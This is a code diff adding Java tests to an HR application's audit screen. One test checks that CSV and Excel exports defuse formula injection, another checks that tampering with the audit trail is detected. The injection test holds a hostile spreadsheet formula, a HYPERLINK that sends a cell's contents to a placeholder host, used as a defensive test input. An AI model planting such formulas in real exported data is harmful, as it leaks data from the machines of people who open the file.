@@ -31,7 +31,13 @@ import org.dhatim.fastexcel.reader.Row;
 import org.junit.jupiter.api.Test;
 import org.springframework.beans.factory.annotation.Autowired;
 import org.springframework.context.annotation.Import;
+import nl.gesprekscyclus.audit.AuditTampering;
+import org.springframework.context.ApplicationEventPublisher;
+import org.springframework.jdbc.core.JdbcTemplate;
 import org.springframework.security.access.AccessDeniedException;
+import org.springframework.security.authentication.BadCredentialsException;
+import org.springframework.security.authentication.UsernamePasswordAuthenticationToken;
+import org.springframework.security.authentication.event.AuthenticationFailureBadCredentialsEvent;
 
 /** The Audit screen: ADMIN and HR search the trail by period, actor, subject and kind, and export what they found. */
 @Import(PrivacyFixture.class)
@@ -45,6 +51,10 @@ class AuditViewTests extends KaribuTest {
     AuditExport export;
     @Autowired
     PrivacyFixture fixture;
+    @Autowired
+    ApplicationEventPublisher publisher;
+    @Autowired
+    JdbcTemplate jdbc;
 
     @Test
     void shouldFindTheEntriesOfOneKindAboutOneEmployeePagedNewestFirst() {
@@ -138,6 +148,80 @@ class AuditViewTests extends KaribuTest {
         });
         assertThat(audit.latest("audit.export")).element(1)
                 .satisfies(entry -> assertThat(entry.detail()).startsWith("csv, 2 entries"));
+    }
+
+    /**
+     * A failed login records the username as typed: whoever types a formula as their username must not have it run
+     * on the machine of the auditor who opens the export (OWASP CSV injection). The Excel export keeps it as it was:
+     * a string cell is never a formula.
+     */
+    @Test
+    void shouldExportAUsernameThatLooksLikeAFormulaAsText() throws Exception {
+        String hostile = "=HYPERLINK(\"http://x.example/?d=\"&A2,\"Klik hier\")";
+        publisher.publishEvent(new AuthenticationFailureBadCredentialsEvent(
+                UsernamePasswordAuthenticationToken.unauthenticated(hostile, "geraden"),
+                new BadCredentialsException("wrong password")));
+        audit.record("auditor0", "audittest.injection", "@SUM(1+1)", null, AuditTrail.SUCCESS, null,
+                "-2+3 ook als toelichting");
+        login(DemoUsers.ADMIN);
+        AuditExport.Labels labels = column -> column;
+
+        ByteArrayOutputStream csv = new ByteArrayOutputStream();
+        export.csv(new AuditQuery(null, null, hostile, null, null, "LOGIN"), labels, ZoneId.of("Europe/Amsterdam"),
+                csv);
+        export.csv(new AuditQuery(null, null, null, null, null, "audittest.injection"), labels,
+                ZoneId.of("Europe/Amsterdam"), csv);
+        String text = new String(csv.toByteArray(), StandardCharsets.UTF_8).replace("\uFEFF", "");
+        List<CSVRecord> rows = CSVFormat.DEFAULT.builder().setDelimiter(';').get()
+                .parse(new java.io.StringReader(text)).getRecords();
+        CSVRecord login = rows.stream().filter(r -> r.get(3).equals("LOGIN")).findFirst().orElseThrow();
+        assertThat(login.get(2)).isEqualTo("'" + hostile);
+        assertThat(login.get(6)).isEqualTo("FAILURE");
+        CSVRecord other = rows.stream().filter(r -> r.get(3).equals("audittest.injection")).findFirst().orElseThrow();
+        assertThat(other.get(4)).isEqualTo("'@SUM(1+1)");
+        assertThat(other.get(8)).isEqualTo("'-2+3 ook als toelichting");
+
+        ByteArrayOutputStream xlsx = new ByteArrayOutputStream();
+        export.excel(new AuditQuery(null, null, hostile, null, null, "LOGIN"), labels, ZoneId.of("Europe/Amsterdam"),
+                xlsx);
+        try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx.toByteArray()))) {
+            Row row = workbook.getFirstSheet().read().get(1);
+            assertThat(row.getCellText(2)).isEqualTo(hostile);
+            assertThat(row.getCell(2).getType()).isEqualTo(org.dhatim.fastexcel.reader.CellType.STRING);
+        }
+    }
+
+    /**
+     * The functioneel beheerder sees whether the trail was tampered with: sealed and checked, the line says it is
+     * whole up to the last seal; an entry changed behind the application's back (trigger bypassed) turns it into the
+     * break, in Dutch. HR sees the line, not the button.
+     */
+    @Test
+    void shouldTellTheAdminWhetherTheTrailIsWhole() {
+        audit.record("auditor0", "audittest.integrity", "employee 1", null, AuditTrail.SUCCESS, null, "origineel");
+        login(DemoUsers.ADMIN);
+        navigate("beheer/audit");
+        AuditView view = _get(AuditView.class);
+        assertThat(view.checkNow.isVisible()).isTrue();
+
+        view.checkNow.click();
+        assertThat(view.integrity.getText()).startsWith("Auditlog ongeschonden tot en met ")
+                .contains("vermeldingen verzegeld, gecontroleerd op");
+
+        long id = audit.latest("audittest.integrity").get(0).id();
+        AuditTampering.changeDetail(jdbc, id, "vervalst", () -> {
+            view.checkNow.click();
+            assertThat(view.integrity.getText()).startsWith("Auditlog geschonden: 1 probleem/problemen gevonden")
+                    .contains("vermelding " + id + " (schakel ").contains(") is gewijzigd");
+        });
+        view.checkNow.click();
+        assertThat(view.integrity.getText()).startsWith("Auditlog ongeschonden tot en met ");
+
+        login(DemoUsers.HR);
+        navigate("beheer/audit");
+        AuditView hrView = _get(AuditView.class);
+        assertThat(hrView.checkNow.isVisible()).isFalse();
+        assertThat(hrView.integrity.getText()).startsWith("Auditlog ");
     }
 
     @Test
